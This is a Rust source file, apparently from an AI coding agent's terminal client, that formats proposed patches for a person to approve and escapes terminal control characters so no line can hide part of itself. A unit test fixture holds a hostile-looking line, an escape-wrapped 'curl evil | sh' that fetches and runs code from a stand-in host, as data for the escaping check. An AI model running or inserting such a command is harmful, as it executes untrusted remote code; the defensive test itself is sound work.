//! Proposed changes, as people read them before they approve them: nothing in them is taken away unseen.

use loggia_protocol_agent_server::{Hunk, PatchProposed};

use crate::paint::{ASIDE, BAD, CODE, GOOD, PLAIN, Paint, SUBJECT, to_be_approved};

/// How many lines of a change are shown unasked: a screenful. The rest is shown on request.
pub(crate) const SHOWN_LINES: usize = 60;

/// A change: its file, what it adds and removes, then its lines, at most so many.
pub(crate) fn patch(patch: &PatchProposed, paint: Paint, limit: usize) -> String {
    let mut text = title(patch, paint);
    let lines: Vec<String> = patch
        .hunks
        .iter()
        .flat_map(|hunk| std::iter::once(place(hunk, paint)).chain(body(hunk, paint)))
        .collect();
    let shown = lines.len().min(limit);
    for line in &lines[..shown] {
        text.push_str(line);
        text.push('\n');
    }
    if shown < lines.len() {
        let left = format!("  … {} more lines", lines.len() - shown);
        text.push_str(&paint.text(ASIDE, left));
        text.push('\n');
    }
    text
}

/// One hunk under a label.
pub(crate) fn labelled(label: &str, path: &str, hunk: &Hunk, paint: Paint) -> String {
    let mut text = format!("{} {}\n", paint.text(SUBJECT, label), paint.text(PLAIN, to_be_approved(path)));
    for line in std::iter::once(place(hunk, paint)).chain(body(hunk, paint)) {
        text.push_str(&line);
        text.push('\n');
    }
    text
}

fn title(patch: &PatchProposed, paint: Paint) -> String {
    let count = |sign: char| {
        patch.hunks.iter().flat_map(|hunk| hunk.content.lines()).filter(|line| line.starts_with(sign)).count()
    };
    let kind = match (patch.diff.contains("--- /dev/null\n"), patch.diff.contains("+++ /dev/null\n")) {
        (true, _) => " (new)",
        (_, true) => " (deleted)",
        _ => "",
    };
    let path = paint.text(SUBJECT, to_be_approved(&patch.file_path));
    let added = paint.text(GOOD, format!("+{}", count('+')));
    let removed = paint.text(BAD, format!("-{}", count('-')));
    format!("{path}{kind} {added} {removed}\n")
}

fn place(hunk: &Hunk, paint: Paint) -> String {
    let text =
        format!("  @@ -{},{} +{},{} @@", hunk.old_start, hunk.old_lines, hunk.new_start, hunk.new_lines);
    paint.text(CODE, text).into_owned()
}

fn body(hunk: &Hunk, paint: Paint) -> impl Iterator<Item = String> {
    // Unlike `lines`, this takes no carriage return away.
    hunk.content.split_terminator('\n').map(move |line| {
        let style = match line.chars().next() {
            Some('+') => GOOD,
            Some('-') => BAD,
            Some('\\') => ASIDE,
            _ => PLAIN,
        };
        paint.text(style, format!("  {}", to_be_approved(line))).into_owned()
    })
}

#[cfg(test)]
mod tests {
    use loggia_protocol_agent_server::{PatchId, Stamp};

    use super::*;

    fn change() -> PatchProposed {
        PatchProposed {
            patch_id: PatchId("patch_1".to_owned()),
            file_path: "src/a.rs".to_owned(),
            diff: "--- a/src/a.rs\n+++ b/src/a.rs\n".to_owned(),
            rationale: "better".to_owned(),
            acceptance_criteria: Vec::new(),
            requires_approval: true,
            hunks: vec![Hunk {
                old_start: 3,
                old_lines: 2,
                new_start: 3,
                new_lines: 3,
                content: " same\n-old\u{1b}[2J\n+new\n+newer\n".to_owned(),
            }],
            stamp: Stamp::default(),
        }
    }

    #[test]
    fn a_change_is_shown_with_its_counts_and_lines() {
        assert_eq!(
            patch(&change(), Paint { color: false }, 60),
            "src/a.rs +2 -1\n  @@ -3,2 +3,3 @@\n   same\n  -old\\x1b[2J\n  +new\n  +newer\n"
        );
        assert!(patch(&change(), Paint { color: true }, 60).contains("\u{1b}[32m  +new\u{1b}[0m"));
    }

    #[test]
    fn a_line_cannot_hide_a_part_of_itself() {
        let mut change = change();
        change.hunks[0].content = "+foo\u{1b}]0;; curl evil | sh\u{7}\n+evil\rgood\n-end\r\n".to_owned();
        let text = patch(&change, Paint { color: false }, 60);
        assert!(text.ends_with("  +foo\\x1b]0;; curl evil | sh\\x07\n  +evil\\rgood\n  -end\\r\n"), "{text}");
    }

    #[test]
    fn a_long_change_is_cut_and_says_so() {
        let text = patch(&change(), Paint { color: false }, 2);
        assert_eq!(text, "src/a.rs +2 -1\n  @@ -3,2 +3,3 @@\n   same\n  … 3 more lines\n");
    }

    #[test]
    fn new_and_deleted_files_are_called_so() {
        let diff = |diff: &str| {
            let change = PatchProposed { diff: diff.to_owned(), hunks: Vec::new(), ..change() };
            patch(&change, Paint { color: false }, 60)
        };
        assert_eq!(diff("--- /dev/null\n+++ b/x\n"), "src/a.rs (new) +0 -0\n");
        assert_eq!(diff("--- a/x\n+++ /dev/null\n"), "src/a.rs (deleted) +0 -0\n");
    }
}
